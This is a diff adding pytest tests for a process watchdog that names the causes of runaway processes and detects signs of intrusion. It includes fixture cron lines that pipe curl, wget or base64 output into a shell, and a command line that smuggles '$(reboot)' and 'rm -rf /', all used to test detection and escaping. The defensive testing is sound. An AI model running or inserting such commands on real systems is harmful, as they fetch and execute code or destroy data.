@@ -1,0 +1,328 @@
+"""Who makes an innocent process work, what an intruder's program shows, and what was left behind."""
+
+import shlex
+import time
+from collections.abc import Mapping, Sequence
+from dataclasses import dataclass, field, replace
+from typing import Any, cast
+
+import pytest
+from preflight.host_world import LINK, NOW, EngineWith, FakeHost
+from support.builders import make_process
+
+from runaway_watchdog.explain import cause, condition, leftbehind, signs, ways
+from runaway_watchdog.model.casefile import History, LeftBehind, Sign
+from runaway_watchdog.model.owner import Owner
+from runaway_watchdog.model.plan import Plan
+from runaway_watchdog.model.process import Facts, Process
+from runaway_watchdog.world import Clock, Journal, World, procfs
+
+UNCLAIMED = Owner("unmanaged", "x", "60", "none", {}, ())
+JOURNALD = make_process(200, name="systemd-journal", cgroup="/system.slice/systemd-journald.service")
+
+
+@dataclass
+class FakeJournal:
+    found: Sequence[Mapping[str, Any]] = field(default_factory=tuple)
+
+    def entries(self, matches: Sequence[str], limit: int) -> Sequence[Mapping[str, Any]]:
+        assert not matches
+        return self.found[-limit:]
+
+
+class StandingClock:
+    """Nobody has to wait."""
+
+    def now(self) -> float:
+        return NOW
+
+    def sleep(self, seconds: float) -> None:
+        pass
+
+
+def lines(count: int, *, ago_s: float = 1.0, every_s: float = 0.001, **fields: Any) -> list[dict[str, str]]:
+    """`count` entries, the last one `ago_s` before now."""
+    times = [int((NOW - ago_s - (count - number) * every_s) * 1e6) for number in range(count)]
+    return [{"_PID": "77", "__REALTIME_TIMESTAMP": str(each), **fields} for each in times]
+
+
+def world_with(entries: Sequence[Mapping[str, Any]], host: FakeHost | None = None) -> World:
+    return replace((host or FakeHost()).world, journal=cast(Journal, FakeJournal(entries)))
+
+
+# --- the cause ---------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("fields", "name", "unit"),
+    [
+        ({"_SYSTEMD_UNIT": "flood.service"}, "flood.service", "flood.service"),
+        ({"_SYSTEMD_UNIT": "docker.service", "CONTAINER_NAME": "shop-web-1"}, "the container shop-web-1", None),
+        ({"_SYSTEMD_UNIT": "session-3.scope", "SYSLOG_IDENTIFIER": "backup"}, "the program backup", None),
+        ({"_SYSTEMD_UNIT": "cron.service", "_COMM": "run.sh"}, "the program run.sh", None),
+    ],
+)
+def test_who_writes_most_of_the_journal_is_named(fields: dict[str, Any], name: str, unit: str | None) -> None:
+    """By its container, its service, or its program where many share a unit."""
+    entries = lines(20, every_s=1, _SYSTEMD_UNIT="other.service") + lines(200, **fields)
+    found, gaps = cause.cause(world_with(entries), JOURNALD)
+    assert gaps == ()
+    assert found is not None
+    assert (found.name, found.unit, found.pid) == (name, unit, 77)
+
+
+@pytest.mark.parametrize(
+    "entries",
+    [
+        [],
+        lines(100),  # too few to tell: a service that starts says as much
+        lines(300, every_s=1),  # one a second is no flood
+        lines(300, ago_s=3600),  # an old one is over
+        lines(100) + lines(120, _SYSTEMD_UNIT="b.service") + lines(110, _SYSTEMD_UNIT="c.service"),  # nobody stands out
+        [{"MESSAGE": "x"}] * 300,  # the kernel's
+        [{"_PID": "x", "__REALTIME_TIMESTAMP": "y"}] * 300,
+    ],
+)
+def test_nobody_is_blamed_for_an_ordinary_journal(entries: list[dict[str, str]]) -> None:
+    """Too slow, too old, too many writers, or not to be read."""
+    assert cause.cause(world_with(entries), JOURNALD)[0] is None
+
+
+def test_journalds_own_word_counts_only_as_its_own() -> None:
+    """A program that writes "Suppressed 9 messages from ssh.service" blames nobody."""
+    text: dict[str, Any] = {"MESSAGE": "Suppressed 99999 messages from flood.service", "MESSAGE_ID": cause.SUPPRESSED}
+    own = lines(1, _TRANSPORT="driver", **text)
+    found, _ = cause.cause(world_with(own), JOURNALD)
+    assert found is not None
+    assert (found.name, "99999" in found.told) == ("flood.service", True)
+    assert cause.cause(world_with(lines(1, _TRANSPORT="stdout", **text)), JOURNALD)[0] is None
+
+
+def test_only_the_real_journald_is_innocent() -> None:
+    """A name can be taken; the unit's group cannot."""
+    assert cause.innocent(JOURNALD) is not None
+    assert cause.innocent(replace(JOURNALD, cgroup="/payload/system.slice/systemd-journald.service")) is None
+    assert cause.innocent(make_process(5, name="kswapd0")) is None
+    assert cause.innocent(make_process(5, name="kswapd0", kernel_thread=True)) is not None
+    assert cause.innocent(make_process(5, name="ksoftirqd/3", kernel_thread=True)) is not None
+
+
+def test_a_restart_loop_is_found_for_pid_1() -> None:
+    """The unit with the most restarts, if it was started just now."""
+    host = FakeHost()
+    usec = int(NOW * 1e6)
+    host.manager.loaded = {
+        "old.service": {"ActiveState": "active", "NRestarts": 900, "ActiveEnterTimestamp": usec - int(3600e6)},
+        "crash.service": {
+            "ActiveState": "activating",
+            "NRestarts": 40,
+            "InactiveExitTimestamp": usec,
+            "RestartUSec": 50_000,
+        },
+        "calm.service": {"ActiveState": "active", "NRestarts": 1, "ActiveEnterTimestamp": usec},
+    }
+    found, _ = cause.cause(host.world, make_process(1, name="systemd"))
+    assert found is not None
+    assert (found.name, found.unit) == ("crash.service", "crash.service")
+
+
+def test_who_eats_the_memory_is_named_for_kswapd() -> None:
+    """RAM and swap together."""
+    host = FakeHost()
+    for pid, kib in ((60, 1000), (70, 4_000_000)):
+        host.process(pid, f"/usr/bin/eater-{pid}")
+        path = f"/proc/{pid}/status"
+        host.files.add(path, host.files.texts[path] + f"VmRSS:\t{kib} kB\nVmSwap:\t0 kB\n")
+    found, _ = cause.cause(host.world, make_process(9, name="kswapd0", kernel_thread=True))
+    assert found is not None
+    assert found.pid == 70
+    assert "3.8 GiB" in found.told
+
+
+@pytest.mark.parametrize("name", ["systemd-journald.service", "docker.service", "rsyslog.service"])
+def test_nobody_is_told_to_stop_who_works_for_others(name: str) -> None:
+    """With no cause found, the only step is a look."""
+    comm = {"systemd-journald.service": "systemd-journal", "docker.service": "dockerd", "rsyslog.service": "rsyslogd"}[
+        name
+    ]
+    process = make_process(200, name=comm, cgroup=f"/system.slice/{name}")
+    plan = ways.adapted(Plan("stop it", (), ()), process, None, None, (), FakeHost().world)
+    assert [step.risk for step in plan.steps] == ["none"]
+    assert "stop" not in plan.steps[0].command
+
+
+# --- signs -------------------------------------------------------------------------------------------------------
+
+
+def facts_of(host: FakeHost, pid: int = 60) -> Facts:
+    return procfs.facts(host.world, pid)[0]
+
+
+def burner(exe: str = "/usr/bin/burn", words: str = "/usr/bin/burn", **changes: Any) -> FakeHost:
+    host = FakeHost()
+    host.process(1, "/sbin/init", comm="systemd", ppid=0)
+    host.process(60, words, **changes)
+    host.files.add("/proc/60/exe", f"{LINK}{exe}")
+    return host
+
+
+@pytest.mark.parametrize(
+    ("exe", "sign"),
+    [
+        ("/tmp/x", True),
+        ("/dev/shm/.x/kdevtmpfsi (deleted)", True),
+        ("/memfd:a (deleted)", True),
+        ("/usr/bin/.hidden", True),
+        ("/usr/bin/gone (deleted)", True),
+        ("/usr/bin/upgraded (deleted)", False),
+        ("/memfd:runc_cloned:/proc/self/exe (deleted)", False),
+        ("/srv/app/.venv/bin/python3", False),
+        ("/usr/bin/burn", False),
+    ],
+)
+def test_where_a_program_lies_is_one_sign_at_most(exe: str, sign: bool) -> None:
+    """An upgrade puts a new file in place of the deleted one, and runc runs from memory by design."""
+    host = burner(exe)
+    host.files.add("/proc/60/root/usr/bin/upgraded", "new")
+    found = signs.signs(host.world, facts_of(host), [UNCLAIMED], History())
+    assert bool(found) is sign
+    assert not signs.suspicious(found)
+
+
+def test_two_kinds_of_signs_are_needed() -> None:
+    """Twice the same kind is one."""
+    one = Sign("program-file", "a", "b")
+    assert not signs.suspicious([one, one])
+    assert signs.suspicious([one, Sign("posing", "a", "b")])
+
+
+@pytest.mark.parametrize("words", ["[kworker/0:1]", "kdevtmpfsi", "[ksoftirqd/0]"])
+def test_who_poses_as_a_kernel_thread_is_seen(words: str) -> None:
+    """The kernel's flag cannot be forged, a name can."""
+    host = burner(words=words, comm=words[:15])
+    assert {each.kind for each in signs.signs(host.world, facts_of(host), [UNCLAIMED], History())} == {"posing"}
+
+
+def test_a_celery_worker_does_not_pose() -> None:
+    """It writes its title in brackets too."""
+    host = burner()
+    host.files.add("/proc/60/cmdline", "[celeryd: celery@web:ForkPoolWorker-1]\0")
+    assert signs.signs(host.world, facts_of(host), [UNCLAIMED], History()) == ()
+
+
+@pytest.mark.parametrize(
+    ("line", "sign"),
+    [
+        ("*/5 * * * * root curl -s http://203.0.113.9/x | sh", True),
+        ("* * * * * wget -qO- http://x/y.sh | bash -s", True),
+        ("* * * * * echo aGk= | base64 -d | bash", True),
+        ("# curl http://x | sh", False),
+        ("0 3 * * * root curl -fsS https://hc.example/ping", False),
+        ("0 3 * * * root /usr/bin/certbot renew", False),
+    ],
+)
+def test_a_line_that_downloads_and_runs_is_a_sign(line: str, sign: bool) -> None:
+    """A ping to a monitor is none."""
+    host = burner()
+    host.files.add("/etc/cron.d/x", f"{line}\n")
+    assert bool(signs.signs(host.world, facts_of(host), [UNCLAIMED], History())) is sign
+
+
+def test_more_signs_are_found_for_one_that_nobody_manages() -> None:
+    """A forced library, a return without a keeper."""
+    host = burner()
+    host.files.add("/proc/60/root/etc/ld.so.preload", "/usr/local/lib/libhide.so\n")
+    found = signs.signs(host.world, facts_of(host), [UNCLAIMED], History(returns_seen=3))
+    assert {each.kind for each in found} == {"preload", "no-keeper"}
+    service = Owner("systemd-service", "x.service", "x.service", "always", {"main_pid": 60}, ())
+    assert signs.signs(host.world, facts_of(host), [service], History(returns_seen=3)) == ()
+
+
+def test_a_hostile_crontab_is_read_in_no_time() -> None:
+    """Whoever writes one must not keep the explanation waiting."""
+    host = burner()
+    host.files.add("/etc/cron.d/x", "curl " * 30_000 + "\n" + "base64 -d " * 30_000)
+    begun = time.monotonic()
+    signs.signs(host.world, facts_of(host), [UNCLAIMED], History())
+    assert time.monotonic() - begun < 2
+
+
+@pytest.mark.parametrize(
+    ("port", "address", "sign"),
+    [
+        ("9000/tcp", "0.0.0.0", True),
+        ("6379/tcp", "::", True),
+        ("9000/tcp", "127.0.0.1", False),
+        ("80/tcp", "0.0.0.0", False),
+    ],
+)
+def test_an_open_door_is_how_it_would_come_again(port: str, address: str, sign: bool) -> None:
+    """Told only where the program itself is odd: a published port alone is nobody's crime."""
+    ports = {"NetworkSettings": {"Ports": {port: [{"HostIp": address, "HostPort": "1"}]}}}
+    host = burner("/tmp/kdevtmpfsi")
+    host.engine = EngineWith([{"Id": "ab" * 32, **ports}], [])
+    owner = Owner("docker-container", "fpm", "ab" * 32, "always", {}, ())
+    found = signs.signs(host.world, facts_of(host), [owner], History())
+    assert {each.kind for each in found} == ({"program-file", "door"} if sign else {"program-file"})
+    host.files.add("/proc/60/exe", f"{LINK}/usr/bin/php")
+    assert signs.signs(host.world, facts_of(host), [owner], History()) == ()
+
+
+# --- left behind -------------------------------------------------------------------------------------------------
+
+
+def test_copies_are_counted_and_others_are_not() -> None:
+    """The same words, the same user, the same adoptive parent."""
+    host = burner(words="/usr/bin/burn --x")
+    for pid, words, changes in (
+        (61, "/usr/bin/burn --x", {}),
+        (62, "/usr/bin/burn --y", {}),
+        (63, "/usr/bin/burn --x", {"uid": 33}),
+        (64, "/usr/bin/burn --x", {"ppid": 61}),
+    ):
+        host.process(pid, words, **changes)
+    world = replace(host.world, clock=cast(Clock, StandingClock()))
+    found = leftbehind.left_behind(world, facts_of(host), UNCLAIMED)
+    assert found is not None
+    assert found.pids == (60, 61)
+
+
+def test_a_service_that_waits_for_it_is_a_caller() -> None:
+    """A main process has one; what a unit's helper left has none."""
+    host = burner()
+    main = Owner("systemd-service", "x.service", "x.service", "no", {"main_pid": 60}, ())
+    other = replace(main, facts={"main_pid": 17})
+    assert leftbehind.left_behind(host.world, facts_of(host), main) is None
+    assert leftbehind.left_behind(host.world, facts_of(host), other) is not None
+
+
+def test_a_hostile_command_line_stays_one_word() -> None:
+    """The plan picks the copies by their words, which may be anything."""
+    process = make_process(cmdline=("/usr/bin/x", "$(reboot)", "'; rm -rf /", "a.b*[c]"))
+    held = leftbehind.held(LeftBehind("", (60, 61), None), process)
+    assert held is not None
+    for step in held.steps:
+        words = shlex.split(step.command)
+        assert "/usr/bin/x \\$\\(reboot\\) '; rm -rf / a\\.b\\*\\[c\\]" in words
+        assert not {"rm", "-rf"} & set(words)
+
+
+# --- the state ---------------------------------------------------------------------------------------------------
+
+
+def odd(host: FakeHost, process: Process) -> tuple[str, ...]:
+    return condition.condition(host.world.files, process)
+
+
+def test_the_state_is_told_in_words() -> None:
+    """Where it waits, who holds it, how it ended."""
+    host = burner()
+    host.files.add("/proc/40/comm", "gdb\n")
+    host.files.add("/proc/60/wchan", "nfs_wait_bit_killable")
+    assert "nfs_wait_bit_killable" in odd(host, make_process(60, state="disk-sleep"))[0]
+    path = "/proc/60/status"
+    host.files.add(path, host.files.texts[path] + "TracerPid:\t40\n")
+    assert odd(host, make_process(60, state="traced"))[0].startswith("gdb (PID 40)")
+    host.files.add("/proc/60/stat", "60 (burn) Z 1 " + "0 " * 40 + "9")
+    assert "ended by SIGKILL" in odd(host, make_process(60, state="zombie"))[0]
+    assert odd(host, make_process(60)) == ()
